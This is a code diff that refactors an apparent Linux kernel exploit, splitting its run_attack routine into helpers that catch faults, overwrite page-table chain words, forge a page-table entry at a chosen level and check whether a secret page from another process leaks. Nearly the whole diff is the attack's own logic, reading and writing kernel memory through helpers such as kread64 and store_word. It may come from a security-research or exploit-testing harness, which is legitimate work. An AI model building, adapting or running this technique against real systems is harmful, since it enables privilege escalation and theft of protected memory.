@@ -29,7 +29,6 @@
 
 static struct {
 	volatile int go, done;
-	volatile uint64_t place[3];
 	uint64_t entry;
 	char text[SECRET_SIZE];
 } *shared;
@@ -91,7 +90,7 @@ static void run_child(void)
 	if (mremap((void *)from, PMD_SIZE, PMD_SIZE, MREMAP_MAYMOVE | MREMAP_FIXED, to) == to) {
 		shared->done = 4;
 		snprintf(shared->text, sizeof(shared->text), "%s",
-			 to + FORGED_AT * PAGE_SIZE );
+			 to + FORGED_AT * PAGE_SIZE);
 	}
 	shared->done = 5;
 	forget(same);
@@ -182,38 +181,51 @@ static int change_pointers(struct target *t, uint64_t from, uint64_t to)
 	return n;
 }
 
-static enum outcome run_attack(struct target *t)
+/* The faults wait one after the other; returns where the chain is, or -1. */
+static int catch_fault(struct target *t, int step)
 {
-	uint64_t spare, leaf, table, entry, lock;
-	struct slot slot;
-	int at, n;
+	return hold(t->lock, step) ? find_chain(t) : -1;
+}
 
-	/* Tables that were taken from the pool, and that nobody links. */
-	if (!hold(t->lock, 1))
-		return broken("nobody waited");
-	at = find_chain(t);
-	if (at < 0)
-		return broken("no chain found");
-	spare = t->words[at + 2];
-	store_word(t, at, 0, sizeof(uint32_t));
+static void go_on(struct target *t, int step)
+{
 	release(t->lock);
-	wait_done(2);
+	wait_done(step);
+}
 
-	if (!hold(t->lock, 2))
-		return broken("nobody waited again");
-	at = find_chain(t);
+/* Taken from the pool, and by a chain of no tables linked by nobody: frame, or 0. */
+static uint64_t make_spare(struct target *t)
+{
+	int at = catch_fault(t, 1);
+	uint64_t spare = at < 0 ? 0 : t->words[at + 2];
+
+	if (spare)
+		store_word(t, at, 0, sizeof(uint32_t));
+	go_on(t, 2);
+	return spare;
+}
+
+/* Returns false without a fault; else the frames of two of its tables. */
+static bool link_one_more(struct target *t, uint64_t spare, uint64_t *leaf, uint64_t *table)
+{
+	int at = catch_fault(t, 2);
+
 	if (at < 0)
-		return broken("no second chain found");
-	leaf = t->words[at + 2];
-	table = direct_map_base() + t->words[at + 3] * PAGE_SIZE;
+		return false;
+	*leaf = t->words[at + 2];
+	*table = t->words[at + 3];
 	store_word(t, at, LEVEL_P4D, sizeof(uint32_t));
 	store_word(t, at + 1 + LEVEL_P4D, spare, sizeof(spare));
-	release(t->lock);
-	wait_done(3);
-	entry = table + SAME_SLOT * 8;
-	if (kread64(direct_map_base() + leaf * PAGE_SIZE + FORGED_AT * 8) != shared->entry)
-		return lost("no entry in the table: step %d, 0x%lx leads to frame 0x%lx", shared->done,
-			    kread64(entry), leaf);
+	go_on(t, 3);
+	return true;
+}
+
+/* The entry at this address is moved as if it led to a table. */
+static enum outcome move_entry(struct target *t, uint64_t entry)
+{
+	struct slot slot;
+	uint64_t lock;
+	int n;
 
 	if (kwalk(address(MOVED_SLOT, 0), LEVEL_PMD, t->pid, &slot))
 		return broken("no table to be moved");
@@ -227,6 +239,21 @@ static enum outcome run_attack(struct target *t)
 		return won("wrote 0x%lx to a page table, not moved by %d pointers, step %d",
 			   shared->entry, n, shared->done);
 	return judge_secret(shared->text, 0);
+}
+
+static enum outcome run_attack(struct target *t)
+{
+	uint64_t spare = make_spare(t), leaf, table, entry;
+
+	if (!spare)
+		return broken("no fault waited with a chain");
+	if (!link_one_more(t, spare, &leaf, &table))
+		return broken("no second fault waited with a chain");
+	entry = direct_map_base() + table * PAGE_SIZE + SAME_SLOT * 8;
+	if (kread64(direct_map_base() + leaf * PAGE_SIZE + FORGED_AT * 8) != shared->entry)
+		return lost("no entry in the table: step %d, 0x%lx leads to frame 0x%lx", shared->done,
+			    kread64(entry), leaf);
+	return move_entry(t, entry);
 }
 
 enum outcome levels_of_chain(void)
